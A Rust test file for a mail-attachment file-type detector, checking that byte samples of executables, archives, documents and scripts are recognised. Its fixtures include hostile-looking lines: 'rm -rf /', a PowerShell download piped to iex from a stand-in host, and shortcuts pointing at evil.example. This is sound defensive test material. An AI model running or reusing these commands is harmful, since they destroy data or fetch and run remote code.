//! What files are by content and by name: samples by bytes, real files from the corpus.

#![allow(clippy::unwrap_used)] // A test says by it what it takes for granted.

use congthu::mail::{Family, FileType};
use proptest::prelude::*;
use std::io::{Cursor, Write};
use zip::write::SimpleFileOptions;

/// A PE of 64 or 32 bits, program or library.
pub(crate) fn pe(wide: bool, library: bool) -> Vec<u8> {
    let mut bytes = vec![0; 0x80];
    bytes[..2].copy_from_slice(b"MZ");
    bytes[0x3c] = 0x80;
    bytes.extend_from_slice(b"PE\0\0\x4c\x01\x01\0");
    bytes.extend_from_slice(&[0; 12]);
    bytes.extend_from_slice(&[0xe0, 0, 0x02, if library { 0x21 } else { 0x01 }]);
    bytes.extend_from_slice(if wide { b"\x0b\x02" } else { b"\x0b\x01" });
    bytes.resize(512, 0);
    bytes
}

/// A zip of these members.
pub(crate) fn zip(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in members {
        writer.start_file(*name, SimpleFileOptions::default()).unwrap();
        writer.write_all(bytes).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

/// An OLE file with these streams.
pub(crate) fn ole(streams: &[&str]) -> Vec<u8> {
    let mut file = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
    for stream in streams {
        file.create_stream(format!("/{stream}")).unwrap().write_all(&[1; 5000]).unwrap();
    }
    file.flush().unwrap();
    file.into_inner().into_inner()
}

/// A sector that boots, with these bytes in it.
fn boot(pieces: &[(usize, &[u8])]) -> Vec<u8> {
    let mut bytes = at(510, b"\x55\xaa", 4096);
    for (offset, piece) in pieces {
        bytes[*offset..offset + piece.len()].copy_from_slice(piece);
    }
    bytes
}

/// Bytes at an offset of an otherwise empty file.
pub(crate) fn at(offset: usize, magic: &[u8], length: usize) -> Vec<u8> {
    let mut bytes = vec![0; length];
    bytes[offset..offset + magic.len()].copy_from_slice(magic);
    bytes
}

fn content_types(main: &str) -> String {
    format!(
        "<?xml version=\"1.0\"?><Types><Override ContentType=\"application/vnd.{main}+xml\"/></Types>"
    )
}

#[track_caller]
fn is(bytes: &[u8], extension: &str) {
    let found = FileType::detect(bytes);
    let head = String::from_utf8_lossy(&bytes[..bytes.len().min(40)]).into_owned();
    assert_eq!(found.extension, extension, "{found:?} for {head:?}");
}

#[test]
fn programs_are_known() {
    is(&pe(false, false), "exe");
    is(&pe(true, true), "dll");
    assert_eq!(FileType::detect(&pe(false, false)).describe(&pe(false, false)), "PE32 executable");
    assert_eq!(FileType::detect(&pe(true, true)).describe(&pe(true, true)), "PE32+ library (DLL)");
    is(&at(0, b"MZ\x90\0\x03", 100), "dos");
    is(&at(0, b"\x7fELF\x02\x01\x01", 100), "elf");
    is(&at(0, b"\xcf\xfa\xed\xfe", 100), "mach");
    is(b"\xca\xfe\xba\xbe\0\0\0\x34\0\x10", "class");
    is(b"\xca\xfe\xba\xbe\0\0\0\x02\x01\0\0\x07", "mach");
    is(b"\0asm\x01\0\0\0", "wasm");
    is(&at(0, b"dex\n035\0", 200), "dex");
    is(b"MZ is what Mark Zbikowski wrote at the front of each program that he linked.", "txt");
}

#[test]
fn shortcuts_installers_and_images_are_executables() {
    let samples: &[(Vec<u8>, &str)] = &[
        (at(0, b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46", 100), "lnk"),
        (at(0, b"ITSF\x03\0\0\0", 100), "chm"),
        (at(0x8001, b"CD001", 0x9000), "iso"),
        (at(0, b"vhdxfile", 600), "vhdx"),
        (at(4096, b"conectix", 4096 + 512), "vhd"),
        (at(4096, b"koly", 4096 + 512), "dmg"),
        (
            at(510, b"\x55\xaa", 1024)
                .into_iter()
                .enumerate()
                .map(|(i, b)| if (54..57).contains(&i) { b"FAT"[i - 54] } else { b })
                .collect(),
            "img",
        ),
        (b"!<arch>\ndebian-binary   1410122664".to_vec(), "deb"),
        (at(4, b"\x12\x3a\0\x10\x19\x04\0\x10", 100), "sis"),
        (at(0, b"\x7a\x1a\x20\x10", 100), "sis"),
        (at(0, b"\xed\xab\xee\xdb\x03", 100), "rpm"),
        (at(0, b"xar!\0\x1c", 100), "pkg"),
        (zip(&[("META-INF/MANIFEST.MF", b"Main-Class: A")]), "jar"),
        (at(0, b"\0\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\0\0\x02\0\x01", 3000), "iso"),
        (boot(&[(3, b"NTFS    ")]), "img"),
        (boot(&[(3, b"EXFAT   ")]), "img"),
        (boot(&[(0, b"\xeb\x3c\x90MSDOS5.0\0\x02\x04\x01\0\x02\0\x02\0\x08\xf8")]), "img"),
        (boot(&[(446, b"\x80\x20\x21\0\x07\xfe\xff\xff\0\x08\0\0\0\0\x10\0")]), "img"),
        (at(32, b"NXSB", 5000), "img"),
        (zip(&[("AndroidManifest.xml", b"\x03"), ("classes.dex", b"dex")]), "apk"),
        (zip(&[("AppxManifest.xml", b"<Package/>"), ("[Content_Types].xml", b"")]), "msix"),
        (ole(&["\u{4840}\u{3f7f}\u{4164}"]), "msi"),
        (b"[InternetShortcut]\r\nURL=file://evil.example/a.exe\r\n".to_vec(), "url"),
        (b"<?xml version='1.0'?><plist><dict><key>URL</key><string>smb://x</string></dict></plist>".to_vec(), "url"),
        (b"<plist><dict><key>PayloadType</key><string>Configuration</string></dict></plist>".to_vec(), "mobileconfig"),
        (b"[Theme]\r\nDisplayName=a\r\n[VisualStyles]\r\nPath=\\\\x.example\\a.msstyles\r\n".to_vec(), "settingcontent-ms"),
        ("\u{feff}screen mode id:i:2\r\nfull address:s:x.example\r\n".as_bytes().to_vec(), "rdp"),
        (b"[Desktop Entry]\nType=Application\nExec=sh -c id\n".to_vec(), "desktop"),
    ];
    for (bytes, extension) in samples {
        is(bytes, extension);
        assert_eq!(FileType::detect(bytes).family, Family::Executable, "{extension}");
    }
}

#[test]
fn archives_are_known() {
    let mut tar = tar::Builder::new(Vec::new());
    let mut header = tar::Header::new_old();
    header.set_path("a.txt").unwrap();
    header.set_size(3);
    header.set_cksum();
    tar.append(&header, &b"abc"[..]).unwrap();
    let tar = tar.into_inner().unwrap();
    is(&tar, "tar");
    // Old programs summed signed characters, and some wrote behind the end of the digits.
    let mut signed = tar.clone();
    signed[0] = 0xe1;
    let sum: i32 = (0..512).map(|at| i32::from(signed[at].cast_signed())).sum();
    let field: i32 = signed[148..156].iter().map(|byte| i32::from(*byte)).sum();
    let digits = format!("{:06o}\0 ", sum - field + 8 * 32);
    signed[148..156].copy_from_slice(digits.as_bytes());
    is(&signed, "tar");
    signed[155] = b'7';
    is(&signed, "tar");
    signed[150] ^= 1;
    assert_ne!(FileType::detect(&signed).extension, "tar");
    is(&zip(&[("a.txt", b"abc")]), "zip");
    is(b"\x1f\x8b\x08\0\0\0\0\0\0\x03", "gz");
    is(b"BZh91AY&SY\0", "bz2");
    is(b"\xfd7zXZ\0\0\x04", "xz");
    is(b"7z\xbc\xaf\x27\x1c\0\x04", "7z");
    is(b"Rar!\x1a\x07\x01\0", "rar");
    is(b"\x28\xb5\x2f\xfd\x04", "zst");
    is(b"\x04\x22\x4d\x18\x64", "lz4");
    is(b"MSCF\0\0\0\0\x44", "cab");
    is(b"\x1f\x9d\x90\x61", "z");
    is(b"\x1c\x5d-lh5-\0\0\0\0", "lzh");
    is(b"\x60\xea\x2c\0\x22", "arj");
    is(&at(7, b"**ACE**", 60), "ace");
    is(b"\x78\x9f\x3e\x22\x01\0\x01", "tnef");
    // Unzip programs read from the end: junk before a zip, or text, hides nothing.
    is(&[b"just a letter\n".as_slice(), &zip(&[("a.exe", b"MZ")])].concat(), "zip");
    let whole = zip(&[("a.txt", &[b'x'; 4000]), ("b.txt", b"abc")]);
    is(&whole[..whole.len() - 60], "zip");
}

#[test]
fn documents_are_known() {
    let odt = "application/vnd.oasis.opendocument.text";
    let samples: &[(Vec<u8>, &str)] = &[
        (b"%PDF-1.7\n".to_vec(), "pdf"),
        ([&[0, 1, 2, 3].repeat(50)[..], b"%PDF-1.4\n"].concat(), "pdf"),
        ([b"hello\n%PDF-1.4\n".as_slice(), b"startxref\n0\n%%EOF"].concat(), "pdf"),
        (b"a letter that says %PDF-1.4 within".to_vec(), "txt"),
        // Viewers that repair need no header.
        (b"1 0 obj\n<</Type/Catalog>>\nendobj\n".to_vec(), "pdf"),
        (b"x\n1\n0\nobj <<>> endobj trailer <</Root 1 0 R>>".to_vec(), "pdf"),
        (
            [&[b'\n'; 1100][..], b"%PDF-1.4\n1 0 obj<<>>endobj\nstartxref\n9\n%%EOF\n"].concat(),
            "pdf",
        ),
        ([&[b'x'; 99_999][..], b"\n1 0 obj <<>> endobj\nstartxref\n9\n%%EOF\n"].concat(), "pdf"),
        ([&[0, 1, 2, 3].repeat(50)[..], b"\n1 0 obj\n<</A 1>>\nendobj"].concat(), "pdf"),
        (b"As we wrote:\n1 0 obj\n<</Type/Catalog>>\nendobj\nis an object.\n".to_vec(), "txt"),
        (b"startxref, a number, %%EOF: so ends a PDF".to_vec(), "txt"),
        (b"{\\rt\\anything".to_vec(), "rtf"),
        (ole(&["WordDocument", "1Table"]), "doc"),
        (ole(&["Workbook"]), "xls"),
        (ole(&["Book"]), "xls"),
        (ole(&["PowerPoint Document"]), "ppt"),
        (ole(&["__properties_version1.0"]), "msg"),
        (ole(&["EncryptionInfo", "EncryptedPackage"]), "ooxml"),
        (ole(&["anything"]), "ole"),
        (zip(&[("mimetype", odt.as_bytes()), ("content.xml", b"<a/>")]), "odt"),
        (at(0, b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3", 64), "one"),
    ];
    for (bytes, extension) in samples {
        is(bytes, extension);
    }
    for (main, extension) in [
        ("openxmlformats-officedocument.wordprocessingml.document.main", "docx"),
        ("openxmlformats-officedocument.spreadsheetml.sheet.main", "xlsx"),
        ("openxmlformats-officedocument.presentationml.presentation.main", "pptx"),
        ("ms-word.document.macroEnabled.main", "docm"),
        ("ms-excel.sheet.macroEnabled.main", "xlsm"),
        ("ms-excel.addin.macroEnabled.main", "xlam"),
    ] {
        let types = content_types(main);
        // The order of members is the writer's own.
        is(
            &zip(&[("docProps/app.xml", b"<a/>"), ("[Content_Types].xml", types.as_bytes())]),
            extension,
        );
    }
    let types = content_types("openxmlformats-officedocument.wordprocessingml.document.main");
    is(&zip(&[("[Content_Types].xml", types.as_bytes()), ("word/vbaProject.bin", b"x")]), "docm");
}

#[test]
fn scripts_are_known() {
    let scripts: &[(&str, &str)] = &[
        ("#!/bin/sh\nrm -rf /\n", "sh"),
        ("#!/usr/bin/env python3\nprint(1)\n", "py"),
        ("@echo off\r\nstart calc\r\n", "bat"),
        ("\u{feff}@ECHO OFF\r\n", "bat"),
        ("setlocal\r\nset A=%~dp0\r\nstart %A%\\x.exe\r\nexit /b\r\n", "bat"),
        ("$c = New-Object Net.WebClient\n$c.DownloadString('http://x.example') | iex\n", "ps1"),
        ("Dim s\r\nSet s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc\"\r\n", "vbs"),
        ("var s = new ActiveXObject(\"WScript.Shell\");\ns.Run('calc');\n", "js"),
        ("<?xml version='1.0'?><job id='a'><script language='JScript'>1</script></job>", "wsf"),
        ("<html><HTA:APPLICATION id='a'><script>1</script></html>", "hta"),
        ("<?xml version='1.0'?><scriptlet><registration/></scriptlet>", "sct"),
        ("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_LOCAL_MACHINE]\r\n", "reg"),
        ("[Version]\r\nSignature=\"$CHICAGO$\"\r\n", "inf"),
        ("[Shell]\r\nCommand=2\r\nIconFile=\\\\x.example\\a.ico\r\n", "scf"),
        ("#@~^XAAAAA==", "vbe"),
        ("rem a comment first\r\n#@~^LAAAAA==@#@&", "vbe"),
        ("ID;PWXL;N;E\r\nP;PGeneral\r\nC;Y1;X1;K1\r\nE\r\n", "jnlp"),
        ("WEB\r\n1\r\nhttps://x.example/a\r\n", "jnlp"),
        ("[oledb]\r\n; Everything after this line\r\nProvider=SQLOLEDB;Data Source=x\r\n", "jnlp"),
        (
            "<html xmlns:o='urn:schemas-microsoft-com:office:odc'><o:OfficeDataConnection/></html>",
            "jnlp",
        ),
        (
            "<xsl:stylesheet xmlns:ms='urn:schemas-microsoft-com:xslt'><ms:script>1</ms:script></xsl:stylesheet>",
            "xslt-script",
        ),
        ("<component><registration progid='a'/><script>1</script></component>", "sct"),
        ("import os\nimport subprocess\nsubprocess.call(['id'])\n", "py"),
    ];
    for (text, extension) in scripts {
        is(text.as_bytes(), extension);
        let wide: Vec<u8> = "\u{feff}"
            .encode_utf16()
            .chain(text.encode_utf16())
            .flat_map(u16::to_le_bytes)
            .collect();
        is(&wide, extension);
    }
}

#[test]
fn a_script_may_carry_anything_behind_its_first_line() {
    let behind = |first: &str| [first.as_bytes(), b"\nid\nexit\n\x01\x02\0\0", &[3; 99]].concat();
    is(&behind("#!/bin/sh"), "sh");
    is(&behind("#!\t/usr/bin/env python3"), "py");
    // No path follows: a sound.
    assert_ne!(FileType::detect(&behind("#!AMR")).family, Family::Script);
}

#[test]
fn compiled_scripts_are_known() {
    for (bytes, extension) in [
        (b"\xa7\x0d\r\n\0\0\0\0\0\0\0\0\0\0\0\0\xe3\0".as_slice(), "py"),
        (b"\x03\xf3\r\n\0\0\0\0c\0\0\0\0\0\0\0\0\0", "py"),
        (b"FasdUAS 1.101.10\x0e\0\0", "scpt"),
        (b"\xa3\x48\x4b\xbe\x98\x6c\x4a\xa9\x99\x4c\x53\x0a\x86\xd6\x48\x7dAU3!EA06", "au3"),
    ] {
        is(bytes, extension);
        assert_eq!(FileType::detect(bytes).family, Family::Script, "{extension}");
    }
    // Two bytes make nothing that runs.
    for bytes in [b"\0\x02\x01\x07\0\0\x80", b"\x78\x01\x01\x2f\0\0\x80", b"\x01\x08\0\0\0\0\x9e"] {
        assert_ne!(FileType::detect(bytes).family, Family::Executable, "{bytes:?}");
    }
}

#[test]
fn prose_is_no_script() {
    for text in [
        "Kính gửi: Ủy ban nhân dân xã Bình An.",
        "Please start the program, set the clock and call me.\nrem is short for remark.\n",
        "To stop echoes, write @echo off at the top of a batch file.",
        "You could use CreateObject(\"WScript.Shell\") as in VBScript, new ActiveXObject in JScript.",
        "function of the committee: to set rules.\nSet a date.\n",
        "#!!! urgent !!!\nread this",
        "#![allow(dead_code)]",
        "From: here to there, to: whom, and other: prose.",
        "BM is a bank in Myanmar",
        "MAC address list",
        "ID3 tags",
        "0707070 is my number",
        "import duties are lower from May on: import os; import sys, see the annex.",
        "From the committee\nimport os is a line of Python, as is import sys\n",
        "ID;Họ và tên;Ngày sinh\r\n1;Nguyễn Văn An;1980\r\n",
        "web\n1\n",
        "An encoded script begins with #@~^ and ends with ^#~@.",
    ] {
        is(text.as_bytes(), "txt");
    }
}

#[test]
fn texts_are_known() {
    is(b"From: a@x.example\r\nTo: b@x.example\r\nSubject: hi\r\n\r\nhi\r\n", "eml");
    is(
        b"From a@x.example Mon Jan 1 00:00:00 2024\nFrom: a@x.example\nDate: x\nTo: b\n\nhi\n",
        "mbox",
    );
    is(b"1786      \nFrom: a\nTo: b\nDate: c\n\nhello", "emlx");
    is(b"1786\n12\nFrom: a\nTo: b\nDate: c\n\nhello", "txt");
    is(b"<!DOCTYPE html><html><body>hi</body></html>", "html");
    is(b"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"/>", "svg");
    is(b"<?xml version=\"1.0\"?><a/>", "xml");
    is(b"BEGIN:VCALENDAR\r\n", "ics");
    is(b"", "");
    assert_eq!(FileType::detect(b""), FileType::EMPTY);
    // TCVN3, VNI and VISCII bytes are text; so is UTF-16 without its mark.
    is(b"k\xddnh g\xf6i: \xf1y ban nh\xa9n d\xa9n x\xb7 B\xd7nh An", "txt");
    is(&"a plain line\r\n".encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>(), "txt");
    is(&[0, 1, 2, 200, 17, 0, 0, 9], "");
}

#[test]
fn names_promise() {
    for (extension, family) in [
        ("EXE", Family::Executable),
        ("scr", Family::Executable),
        ("lnk", Family::Executable),
        ("iso", Family::Executable),
        ("library-ms", Family::Executable),
        ("searchConnector-ms", Family::Executable),
        ("rdp", Family::Executable),
        ("mde", Family::Executable),
        ("diagcab", Family::Executable),
        ("jar", Family::Executable),
        ("ps1", Family::Script),
        ("js", Family::Script),
        ("hta", Family::Script),
        ("pdf", Family::Document),
        ("docx", Family::Document),
        ("png", Family::Picture),
        ("zip", Family::Archive),
        ("txt", Family::Text),
        ("eml", Family::Mail),
        ("mp3", Family::Audiovisual),
    ] {
        assert_eq!(
            FileType::by_extension(extension).map(|t| t.family),
            Some(family),
            "{extension}"
        );
    }
    assert_eq!(FileType::by_extension("vnn"), None);
    assert_eq!(FileType::by_mime("Application/X-Zip-Compressed").unwrap().extension, "zip");
    assert_eq!(FileType::by_mime("application/octet-stream"), None);
}

proptest! {
    #[test]
    fn any_bytes_have_a_type(bytes in proptest::collection::vec(any::<u8>(), 0..2000)) {
        FileType::detect(&bytes).describe(&bytes);
    }

    #[test]
    fn mutated_containers_have_a_type(which in 0usize..3, at in any::<usize>(), byte in any::<u8>(), cut in any::<usize>()) {
        let types = content_types("ms-excel.sheet.macroEnabled.main");
        let mut bytes = match which {
            0 => zip(&[("[Content_Types].xml", types.as_bytes()), ("xl/a.xml", b"x")]),
            1 => ole(&["Workbook", "\u{4840}\u{3f7f}"]),
            _ => pe(true, false),
        };
        let at = at % bytes.len();
        bytes[at] = byte;
        bytes.truncate(bytes.len() - cut % bytes.len());
        FileType::detect(&bytes).describe(&bytes);
    }
}
